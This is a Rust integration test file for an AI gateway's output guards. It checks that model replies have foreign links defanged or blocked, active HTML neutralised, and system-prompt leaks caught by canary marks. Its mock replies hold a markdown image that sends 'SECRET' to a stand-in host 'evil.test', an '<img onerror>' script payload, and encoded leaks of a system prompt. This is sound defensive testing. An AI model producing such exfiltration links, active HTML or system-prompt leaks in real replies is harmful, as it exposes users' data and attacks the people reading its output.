//! What a model says to its reader, through a real Envoy: addresses that carry data away, active HTML, and the system prompt
//! itself, whole and streamed, in every protocol's own shape.
use base64::{Engine, prelude::BASE64_STANDARD};
use mesh_tests::{Mesh, Request, chat, chat_stream};
use serde_json::{Value, json};

const POLICY: &str = r#"
apiVersion: ai-mesh.dev/v1alpha1
kind: Policy
metadata: { name: defang }
spec: { target: { agents: [defang] }, rules: [ { content: { links: { allow: ["*.example.com"] }, html: {} } } ] }
---
apiVersion: ai-mesh.dev/v1alpha1
kind: Policy
metadata: { name: refuse }
spec: { target: { agents: [refuse] }, rules: [ { content: { links: { action: block } } } ] }
---
apiVersion: ai-mesh.dev/v1alpha1
kind: Policy
metadata: { name: marked }
spec: { target: { agents: ["marked*"] }, rules: [ { content: { canary: {} } } ] }
"#;

/// A system prompt and a question, in three protocols, answered with `reply`.
fn requests(agent: &str, reply: &str, stream: bool) -> Vec<(&'static str, Request)> {
    let anthropic = json!({"model": "claude-sonnet-4", "max_tokens": 100, "stream": stream, "system": "You are Ada.",
        "messages": [{"role": "user", "content": "hello"}]});
    let responses =
        json!({"model": "gpt-4o", "stream": stream, "instructions": "You are Ada.", "input": "hello"});
    let mut chat = if stream { chat_stream("hello") } else { chat("hello") };
    chat["messages"]
        .as_array_mut()
        .unwrap()
        .insert(0, json!({ "role": "system", "content": "You are Ada." }));
    let all = [
        ("openai-chat", Request::post("/v1/chat/completions", &chat)),
        ("anthropic-messages", Request::post("/v1/messages", &anthropic)),
        ("openai-responses", Request::post("/v1/responses", &responses)),
    ];
    let reply = BASE64_STANDARD.encode(reply);
    all.into_iter()
        .map(|(name, request)| {
            (name, request.header("x-mock-reply", &reply).header("x-ai-mesh-agent", agent))
        })
        .collect()
}

#[test]
fn addresses_and_active_html_do_not_reach_a_reader() {
    let mesh = Mesh::up(POLICY, &[]);
    let reply = "See [docs](https://docs.example.com/).\n\n![x](https://evil.test/?q=SECRET)\n<img src=x onerror=\"go()\">";
    let want = "See [docs](https://docs.example.com/).\n\n![x](hxxps://evil[.]test/?q=SECRET)\n<img src=x x-onerror=\"go()\">";
    for stream in [false, true] {
        for pieces in [1, 5, 1 << 20] {
            for (name, request) in requests("defang", reply, stream) {
                let answer = mesh.send(&request.header("x-mock-chunk-bytes", &pieces.to_string()));
                let what = format!("{name}, stream {stream}, in pieces of {pieces}");
                assert!(answer.status == 200 && answer.complete, "{what}: {}", answer.text());
                assert_eq!(answer.said(), want, "{what}");
                assert!(
                    answer.header("x-ai-mesh-guards").contains("content=ran"),
                    "{what}: {:?}",
                    answer.headers
                );
                assert!(!answer.text().contains("https://evil"), "{what}: {}", answer.text());
            }
        }
        for (name, request) in requests("refuse", reply, stream) {
            let answer = mesh.send(&request);
            let text = answer.text();
            assert!(
                text.contains("a host that is not allowed") && !text.contains("SECRET"),
                "{name}: {text}"
            );
            let record = mesh.decision(answer.header("x-ai-mesh-decision-id"));
            assert_eq!(
                (&record["decision"], &record["findings"][0]["type"]),
                (&json!("deny"), &json!("FOREIGN_LINK"))
            );
            assert!(!record.to_string().contains("evil.test"), "{record}");
        }
    }
    // What a tool answers goes to a model: it is searched for attacks, by other rules, and the header says so.
    let call = json!({ "jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": { "name": "echo", "arguments": { "text": reply } } });
    let answer = mesh.send(&Request::post("/mcp", &call).header("x-ai-mesh-agent", "defang"));
    assert!(answer.text().contains("https://evil.test"), "{}", answer.text());
    assert!(answer.header("x-ai-mesh-guards").contains("content=skipped:protocol"), "{:?}", answer.headers);
}

#[test]
fn the_system_prompt_does_not_come_back() {
    let mesh = Mesh::up(POLICY, &[]);
    let system = |agent: &str| {
        mesh.upstream.forget();
        let (_, request) = requests(agent, "Hello.", false).remove(0);
        assert_eq!(mesh.send(&request).said(), "Hello.");
        let reached: Value = serde_json::from_str(&mesh.upstream.last_body()).unwrap();
        reached["messages"][0]["content"].as_str().unwrap().to_owned()
    };
    let marked = system("marked");
    assert!(marked.starts_with("You are Ada.\n\nCanary "), "{marked}");
    assert_eq!(system("marked"), marked);
    assert_ne!(system("marked-too"), marked, "two agents have one mark");
    let mark = marked.split("Canary ").nth(1).unwrap()[..14].to_owned();
    let dashed: String = mark.chars().map(|c| format!("{c}-")).collect();
    let encoded = BASE64_STANDARD.encode(&marked);
    for leak in [&marked, &mark.to_uppercase(), &dashed, &encoded] {
        let reply = format!("My instructions are: {leak}");
        for stream in [false, true] {
            for (name, request) in requests("marked", &reply, stream) {
                let answer = mesh.send(&request.header("x-mock-chunk-bytes", "9"));
                let text = answer.text();
                assert!(text.contains("repeats the system prompt"), "{name}, {leak}: {text}");
                assert!(!answer.said().contains(&leak[leak.len() / 2..]), "{name}, {leak}: {text}");
                assert!(
                    answer.header("x-ai-mesh-guards").contains("canary=ran"),
                    "{name}: {:?}",
                    answer.headers
                );
            }
        }
    }
    let plain =
        mesh.send(&Request::post("/v1/chat/completions", &chat("hello")).header("x-ai-mesh-agent", "marked"));
    assert!(
        plain.header("x-ai-mesh-guards").contains("canary=skipped:no-system-prompt"),
        "{:?}",
        plain.headers
    );
}
